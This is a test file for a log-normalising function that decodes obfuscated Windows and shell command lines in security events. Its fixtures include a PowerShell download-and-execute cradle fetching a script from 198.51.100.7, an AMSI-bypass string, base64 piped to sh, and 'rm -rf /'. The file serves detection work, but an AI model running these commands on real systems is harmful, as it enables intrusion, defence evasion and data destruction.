import { expect, test } from 'vitest';
import type { Document } from '../event.ts';
import { normalise } from './normalise.ts';

const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", 'utf16le').toString(
  'base64',
);
const decodedOf = (document: Document) => {
  const { process, powershell } = normalise(document, 0).document as Record<string, Document | undefined>;
  return process?.decoded_command_line ?? (powershell?.file as Document | undefined)?.decoded_script_block_text;
};

test('decodes the command of a process start of Sysmon', () => {
  const document = {
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational',
      provider_name: 'Microsoft-Windows-Sysmon',
      event_id: '1',
      event_data: { Image: 'C:\\a\\powershell.exe', CommandLine: `powershell -enc ${encoded}` },
    },
  };
  expect(decodedOf(document)).toContain("DownloadString('http://198.51.100.7/a.ps1')");
});

test('decodes script blocks', () => {
  const document = {
    winlog: {
      channel: 'Microsoft-Windows-PowerShell/Operational',
      provider_name: 'Microsoft-Windows-PowerShell',
      event_id: '4104',
      event_data: { ScriptBlockText: "[Ref].Assembly.GetType('Am'+'siUtils')" },
    },
  };
  expect(decodedOf(document)).toBe("[Ref].Assembly.GetType('AmsiUtils')");
});

test('decodes the title or the arguments of a process without a command line', () => {
  expect(decodedOf({ process: { title: 'sh -c echo d2hvYW1p|base64 -d|sh' } })).toBe('sh -c echo whoami|base64 -d|sh');
  expect(decodedOf({ process: { args: ['sh', '-c', 'echo d2hvYW1p|base64 -d|sh'] } })).toBe('sh -c echo whoami|base64 -d|sh');
});

test('removes the field of a shipper, and adds none without need', () => {
  const { document } = normalise({ process: { command_line: 'ls -l', decoded_command_line: 'rm -rf /' } }, 0);
  expect(document.process).toEqual({ command_line: 'ls -l' });
});

test('ignores values that are no text', () => {
  for (const process of [[], 'x', 7, null, { command_line: {} }, { command_line: 7 }, { args: [1, null] }])
    expect(decodedOf({ process, powershell: { file: 'x' } })).toBeUndefined();
});
